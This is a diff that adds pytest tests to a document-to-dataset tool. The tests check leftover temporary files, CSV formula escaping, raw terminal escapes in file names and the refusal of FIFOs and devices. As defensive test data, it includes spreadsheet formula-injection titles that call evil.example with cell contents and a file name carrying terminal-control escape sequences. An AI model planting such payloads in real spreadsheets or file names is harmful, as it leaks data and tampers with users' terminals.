@@ -185,3 +185,63 @@ def test_batch_cleans_only_its_own_leftovers(tmp_path):
     assert all(path.exists() for path in foreign), "a file that is not the batch's own was deleted"
     assert running.exists(), "a temporary file of a batch still running was deleted"
     assert not leftover.exists()
+
+
+def test_dataset_temporary_names_do_not_collide_with_leftovers(tmp_path):
+    from vnplan.dataset import arrow_tables, collect, write_dataset
+
+    outputs, dataset_dir = tmp_path / "json", tmp_path / "dataset"
+    outputs.mkdir()
+    (outputs / "plan.json").write_text(processed("002").to_json(), encoding="utf-8")
+    dataset_dir.mkdir()
+    for name in ("vnplan.duckdb", "documents.parquet"):  # what a run with this PID left (a container restarted)
+        (dataset_dir / f".{name}.{os.getpid()}.tmp").write_bytes(b"half a file")
+    write_dataset(arrow_tables(collect(outputs, lambda path, message: None)), dataset_dir)
+    import duckdb
+
+    with duckdb.connect(str(dataset_dir / "vnplan.duckdb"), read_only=True) as con:
+        assert con.execute("SELECT count(*) FROM documents").fetchone()[0] == 1
+
+
+def test_csv_cells_that_would_be_formulas_are_escaped(tmp_path):
+    import csv
+
+    outputs, dataset_dir = tmp_path / "json", tmp_path / "dataset"
+    outputs.mkdir()
+    for i, start in enumerate("=+-@"):
+        plan = json.loads(processed("002").to_json())
+        plan["document"]["title"] = f'{start}HYPERLINK("http://evil.example/?x="&A1, "click")'
+        (outputs / f"plan{i}.json").write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
+    result = runner.invoke(app, ["dataset", str(outputs), "-o", str(dataset_dir)])
+    assert result.exit_code == 0, (result.output, result.exception)
+    with (dataset_dir / "documents.csv").open(encoding="utf-8", newline="") as handle:
+        titles = [row["title"] for row in csv.DictReader(handle)]
+    assert len(titles) == 4 and all(title.startswith("'") for title in titles), titles
+    import pyarrow.parquet as pq
+
+    raw = pq.read_table(dataset_dir / "documents.parquet").column("title").to_pylist()
+    assert sorted(t[0] for t in raw) == sorted("=+-@")  # Parquet and DuckDB keep the value as it is
+
+
+def test_terminal_escapes_in_names_are_not_printed_raw(tmp_path):
+    inputs, out_dir = tmp_path / "in", tmp_path / "out"
+    inputs.mkdir()
+    (inputs / "evil\x1b]0;owned\x07\x1b[2J.pdf").write_bytes(b"not a pdf at all")
+    _seed_copy(inputs, "good.txt")
+    result = runner.invoke(app, ["batch", str(inputs), "-o", str(out_dir), "--workers", "1"])
+    assert result.exit_code == 1, (result.output, result.exception)
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "evil\\x1b" in result.stderr
+    failures = (out_dir / "failures.csv").read_text(encoding="utf-8")
+    assert "\x1b" not in failures and "evil\\x1b" in failures
+
+
+def test_a_fifo_or_a_device_is_refused_with_one_line(tmp_path):
+    fifo = tmp_path / "plan.txt"
+    os.mkfifo(fifo)
+    for source in (fifo, Path("/dev/zero")):
+        result = subprocess.run(
+            [sys.executable, "-m", "vnplan", "extract", str(source)], capture_output=True, text=True, timeout=60
+        )
+        assert result.returncode == 1, (source, result.stderr)
+        errors = result.stderr.splitlines()
+        assert len(errors) == 2 and "not a regular file" in errors[0] and "Traceback" not in result.stderr, errors
